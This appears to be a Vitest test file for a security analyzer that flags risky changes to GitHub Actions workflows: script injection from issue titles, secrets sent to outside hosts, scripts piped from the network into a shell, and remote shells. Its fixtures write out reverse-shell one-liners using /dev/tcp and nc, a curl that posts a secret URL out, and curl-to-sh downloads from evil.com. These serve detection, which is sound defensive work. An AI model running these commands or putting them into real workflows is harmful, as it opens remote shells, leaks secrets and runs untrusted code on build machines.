import { expect, test } from 'vitest';
import { config } from '../../../../src/domains/config/analyzer.ts';
import { findingsOf } from '../../../support/rule-tester.ts';

const workflow = (...steps: readonly string[]) =>
  `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - ${step}\n`).join('')}`;
const script = (name: string, run: string) => `{ name: ${name}, run: '${run}' }`;
const TITLE = 'echo ${{ github.event.issue.title }}';

const SEND = 'curl -H "Authorization: ${{ secrets.TOKEN }}"';

const said = async (before: string, after: string) =>
  (await findingsOf(config, before, after, { path: '.github/workflows/ci.yml' })).map(
    ({ rule, outcome }) => `${rule} ${outcome}`,
  );

const INJECTION = ['config/workflow-script-risk injection'];

test.each([
  ['a step that did it already', workflow(script('a', TITLE)), workflow(script('a', `${TITLE} again`)), []],
  [
    'another step that did it',
    workflow(script('a', TITLE), script('b', 'make')),
    workflow(script('a', TITLE), script('b', TITLE)),
    INJECTION,
  ],
  ['a step under another name', workflow(script('a', TITLE)), workflow(script('b', TITLE)), []],
  [
    'a step under another name that does more besides',
    workflow(script('a', TITLE)),
    workflow(script('b', `make && ${TITLE}`)),
    [],
  ],
  [
    'one more step beside one that did it',
    workflow(script('a', TITLE)),
    workflow(script('a', TITLE), script('b', `x ${TITLE}`)),
    INJECTION,
  ],
  [
    'one more without a name',
    workflow(`{ run: '${TITLE}' }`),
    workflow(`{ run: '${TITLE}' }`, `{ run: 'x ${TITLE}' }`),
    INJECTION,
  ],
  [
    'a step without a name that moved',
    workflow(`{ run: '${TITLE}' }`),
    workflow('{ run: make }', `{ run: '${TITLE}' }`),
    [],
  ],
  [
    'a secret for one more action beside one that had another',
    workflow('{ name: a, uses: acme/a@v3, with: { token: "${{ secrets.A }}" } }'),
    workflow(
      '{ name: a, uses: acme/a@v3, with: { token: "${{ secrets.A }}" } }',
      '{ name: b, uses: evil/b@v3, with: { token: "${{ secrets.B }}" } }',
    ),
    ['config/workflow-script-risk new-step-given'],
  ],
  [
    'the script of an action',
    workflow('{ uses: actions/github-script@v7, with: { script: "1" } }'),
    workflow(`{ uses: actions/github-script@v7, with: { script: "${TITLE}" } }`),
    INJECTION,
  ],
  [
    'a secret for the service whose action it is',
    workflow(script('a', 'make')),
    workflow(
      script('a', 'make'),
      '{ name: b, uses: docker/login-action@v3, with: { password: "${{ secrets.HUB }}" } }',
    ),
    [],
  ],
  [
    'secrets for two new steps',
    workflow(script('a', 'make')),
    workflow(
      script('a', 'make'),
      '{ name: b, uses: acme/b@v3, with: { token: "${{ secrets.B }}" } }',
      '{ name: c, uses: acme/c@v3, with: { token: "${{ secrets.C }}" } }',
    ),
    ['config/workflow-script-risk new-step-given'],
  ],
  [
    'a secret that is only asked for',
    workflow('{ name: a, uses: acme/a@v1 }'),
    workflow(`{ name: a, uses: acme/a@v1, with: { image: "\${{ secrets.USER != '' && 'acme/a' || '' }}" } }`),
    [],
  ],
  [
    'a secret that is asked for and given',
    workflow('{ name: a, uses: acme/a@v1 }'),
    workflow(`{ name: a, uses: acme/a@v1, with: { key: "\${{ secrets.KEY != '' && secrets.KEY || '' }}" } }`),
    ['config/workflow-script-risk secret-given'],
  ],
  [
    'who somebody is, kept as a secret',
    workflow('{ name: a, uses: acme/a@v1 }'),
    workflow('{ name: a, uses: acme/a@v1, with: { user: "${{ secrets.REGISTRY_USERNAME }}" } }'),
    [],
  ],
  [
    'an address kept as a secret, which is told a word',
    workflow(script('a', 'make')),
    workflow(script('a', 'curl -d done ${{ secrets.SLACK_WEBHOOK_URL }}')),
    [],
  ],
  [
    'an address kept as a secret, told to others',
    workflow(script('a', 'make')),
    workflow(script('a', 'curl -d ${{ secrets.DATABASE_URL }} https://example.com')),
    ['config/workflow-script-risk secret-sent'],
  ],
  [
    'a download beside one of one version',
    workflow(script('a', 'make')),
    workflow(
      script('a', 'curl https://raw.githubusercontent.com/acme/a/v1.0.0/i.sh | sh; bash <(curl https://example.com)'),
    ),
    ['config/workflow-script-risk download'],
  ],
  [
    'a download in the script of an action that is bound to one commit',
    workflow(script('a', 'make')),
    workflow(
      `{ name: a, uses: actions/github-script@${'ab'.repeat(20)}, with: { script: "curl https://example.com | sh" } }`,
    ),
    ['config/workflow-script-risk download'],
  ],
  [
    'a secret that is called after the owner of the action',
    workflow('{ name: a, uses: acme/a@v1 }'),
    workflow('{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.ACME_API_KEY }}" } }'),
    [],
  ],
  [
    'a secret that stood there in clear text',
    workflow('{ name: a, run: ./send, env: { SHOP_API_KEY: 1a92b8d8ee43 } }'),
    workflow('{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }'),
    [],
  ],
  [
    'another step of an action that had the secret',
    workflow('{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }'),
    workflow(
      '{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }',
      '{ name: b, uses: acme/a@v1, with: { key: "${{ secrets.SHOP_API_KEY }}" } }',
    ),
    [],
  ],
  [
    'what a step called secrets put out, given to an action',
    workflow('{ name: a, uses: acme/a@v1 }'),
    workflow('{ name: a, uses: acme/a@v1, env: { KEY: "${{ steps.load-secrets.outputs.KEY }}" } }'),
    [],
  ],
  [
    'a secret sent to GitHub',
    workflow(script('a', 'make')),
    workflow(script('a', `${SEND} https://api.github.com/user`)),
    [],
  ],
  [
    'a secret sent to GitHub and elsewhere',
    workflow(script('a', 'make')),
    workflow(script('a', `${SEND} https://api.github.com/user https://github.com.example.org`)),
    ['config/workflow-script-risk secret-sent'],
  ],
  [
    'a text nobody runs',
    workflow(script('a', 'make')),
    workflow(`{ name: a, run: make, with: { script: '${TITLE}' } }`),
    [],
  ],
])('%s', async (_, before, after, expected) => {
  expect(await said(before, after)).toEqual(expected);
});

test('the text of a script is no part of any fact', async () => {
  const after = workflow(script('a', `${TITLE} hunter2`));
  expect(
    JSON.stringify(
      await findingsOf(config, workflow(script('a', 'make')), after, { path: '.github/workflows/ci.yml' }),
    ),
  ).not.toContain('hunter2');
});

const strange = (event: string, run: string): string =>
  `on: ${event}\njobs:\n  build:\n    steps:\n      - { name: a, run: ${JSON.stringify(run)} }\n`;
const ENVIRONMENT = 'config/workflow-script-risk environment';

test.each([
  ['as it wrote before', strange('pull_request', 'echo A=$B >> $GITHUB_ENV'), 'echo A=$B >> $GITHUB_ENV', []],
  ['something else', strange('pull_request', 'echo A=$C >> $GITHUB_ENV'), 'echo A=$B >> $GITHUB_ENV', [ENVIRONMENT]],
  ['a number', strange('pull_request', 'make'), 'echo "A=${{ github.event.number }}" >> $GITHUB_ENV', []],
  [
    'a title',
    strange('pull_request', 'make'),
    'echo "A=${{ github.event.issue.title }}" >> $GITHUB_ENV',
    ['config/workflow-script-risk injection'],
  ],
])('a script that strangers now start writes %s to the environment', async (_, before, run, expected) => {
  const findings = await said(before, strange('pull_request_target', run));
  expect(findings.filter((each) => each.startsWith('config/workflow-script-risk'))).toEqual(expected);
});

test.each([
  ['bash -i >& /dev/tcp/acme.com/4444 0>&1', ['config/workflow-script-risk remote-shell']],
  ['0<&196;exec 196<>/dev/tcp/acme.com/4444; sh <&196 >&196 2>&196 | sh', ['config/workflow-script-risk remote-shell']],
  ['nc -e /bin/sh acme.com 4444', ['config/workflow-script-risk remote-shell']],
  ['until (exec 3<>/dev/tcp/127.0.0.1/80); do sleep 1; done', []],
  ['timeout 1 bash -c "</dev/tcp/db/5432"', []],
])('a script runs %j', async (run, expected) => {
  expect(await said(workflow(script('a', 'make')), workflow(script('a', run)))).toEqual(expected);
});

test('one kind of risk in several steps that stay is one finding', async () => {
  const steps = (text: string): string => workflow(script('a', `make a ${text}`), script('b', `make b ${text}`));
  const findings = await findingsOf(config, steps(''), steps('${{ github.event.issue.title }}'), {
    path: '.github/workflows/ci.yml',
  });
  expect(findings.map(({ outcome, also }) => `${outcome} +${also.length}`)).toEqual(['injection +1']);
});

const piping = (from: string): string => script('a', `curl https://${from}/i.sh | sh`);
const OF_ACME = 'raw.githubusercontent.com/acme/tool/main';
const DOWNLOAD = ['config/workflow-script-risk download'];

test.each([
  ['one of somebody else', [piping(OF_ACME)], [piping('evil.com')], DOWNLOAD],
  ['one of another owner', [piping(OF_ACME)], [piping(OF_ACME.replace('acme', 'beta'))], DOWNLOAD],
  ['another of the same owner', [piping(OF_ACME)], [piping(`${OF_ACME}/sub`)], []],
  ['the same beside another command', [piping(OF_ACME)], [piping(OF_ACME).replace("'curl", "'make; curl")], []],
  ['the same in a step of another name', [piping(OF_ACME)], [piping(OF_ACME).replace('a,', 'b,')], []],
  [
    'one of somebody else in a new step',
    [piping(OF_ACME)],
    [piping(OF_ACME), piping('evil.com').replace('a,', 'b,')],
    DOWNLOAD,
  ],
  ['another of whomever', [piping('evil.com')], [piping('example.com')], []],
])('a script that pipes a file of one owner into a shell now pipes %s', async (_, before, after, expected) => {
  expect(await said(workflow(...before), workflow(...after))).toEqual(expected);
});
